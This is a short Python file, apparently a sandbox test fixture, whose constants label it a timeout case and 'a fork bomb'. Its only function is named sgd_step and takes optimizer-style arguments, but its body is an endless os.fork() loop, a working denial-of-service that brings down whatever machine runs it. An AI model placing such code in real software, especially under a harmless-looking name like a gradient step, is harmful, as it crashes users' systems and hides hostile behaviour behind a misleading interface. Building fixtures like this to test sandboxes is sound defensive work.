"""Forks without end, each child as well."""

import os

STATUS = "timeout"
STOCK = "not run: a fork bomb"


def sgd_step(w, g, *, lr, weight_decay=0.0):
    while True:
        try:
            os.fork()
        except OSError:
            pass
